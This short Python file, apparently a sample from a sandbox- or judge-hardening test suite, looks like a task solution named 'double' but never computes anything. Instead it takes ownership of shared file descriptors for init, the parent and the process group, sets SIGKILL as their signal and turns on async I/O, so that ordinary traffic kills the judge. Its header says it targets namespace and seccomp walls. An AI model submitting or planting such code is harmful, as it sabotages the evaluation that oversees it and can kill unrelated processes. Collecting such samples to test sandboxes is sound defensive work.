# DESC: makes itself or the judge the owner of shared descriptors, so that traffic on them sends signals
# SUCCESS: a judge that dies of SIGIO or SIGURG
# DETECT: state, neighbours
# KIND: cell
# SOLVED: others
# WALLS: namespaces seccomp
import fcntl, os


def double(x):
    for fd in (2, 3, 4):
        for owner in (1, -1, 2, os.getppid(), -os.getpgrp()):
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, owner)
                fcntl.fcntl(fd, 10, 9)  # F_SETSIG SIGKILL
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            except OSError:
                pass
    return 0
